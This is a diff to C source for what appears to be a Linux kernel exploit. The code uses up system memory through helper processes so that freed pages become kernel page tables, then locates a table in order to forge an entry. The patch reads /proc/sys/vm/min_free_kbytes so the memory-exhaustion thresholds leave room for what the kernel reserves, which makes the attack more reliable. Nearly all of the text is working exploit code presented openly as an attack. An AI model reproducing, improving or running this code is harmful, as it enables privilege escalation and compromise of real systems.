@@ -4,7 +4,9 @@
  * and forge an entry there.
  */
 #define _GNU_SOURCE
+#include <fcntl.h>
 #include <signal.h>
+#include <stdlib.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
 #include <sys/sysinfo.h>
@@ -21,8 +23,9 @@
 #define AT_ONCE	128
 #define MOST	(256 * AT_ONCE)
 
-/* With less memory, the kernel would end the attack. */
+/* With less beyond what it keeps for itself, the kernel would end the attack. */
 #define FREE_LEAST	(12UL << 20)
+#define KEPT_KB		"/proc/sys/vm/min_free_kbytes"
 
 /* So much comes and goes meanwhile. */
 #define FREE_SLACK	(2UL << 20)
@@ -114,6 +117,17 @@ static size_t free_memory(void)
 	return info.freeram * info.mem_unit;
 }
 
+static size_t kept_memory(void)
+{
+	char text[32] = "";
+	int fd = open(KEPT_KB, O_RDONLY | O_CLOEXEC);
+
+	if (fd < 0 || read(fd, text, sizeof(text) - 1) <= 0)
+		die_errno(KEPT_KB);
+	close(fd);
+	return strtoul(text, NULL, 10) << 10;
+}
+
 static noreturn void hold_memory(size_t length, int ready)
 {
 	/* Whatever ends the attack, this ends as well. */
@@ -146,15 +160,17 @@ static void have_memory_held(size_t length)
 }
 
 /*
- * Have other processes use all memory but @left, as long as the attack runs:
- * what is freed next is then most of what the kernel has for its tables. Those
- * of an earlier attack may not have ended yet, so look again.
+ * Have other processes use all memory but @left and what the kernel keeps for
+ * itself, as long as the attack runs: what is freed next is then most of what
+ * the kernel has for its tables. Those of an earlier attack may not have ended
+ * yet, so look again.
  */
 void use_up_memory(size_t left)
 {
 	const struct timespec pause = { .tv_nsec = 300 * 1000 * 1000 };
 	size_t now = free_memory();
 
+	left += kept_memory();
 	while (now > left + FREE_SLACK) {
 		have_memory_held(now - left);
 		nanosleep(&pause, NULL);
@@ -175,9 +191,10 @@ void *populated(size_t length)
 bool attack_by_window(const struct window *window, const char *path)
 {
 	struct spans spans = reserve_spans(MOST);
+	size_t least = kept_memory() + FREE_LEAST;
 	long page = -1;
 
-	while (page < 0 && spans.used < spans.max && free_memory() > FREE_LEAST) {
+	while (page < 0 && spans.used < spans.max && free_memory() > least) {
 		fill_spans(&spans, AT_ONCE);
 		page = find_table(window);
 	}
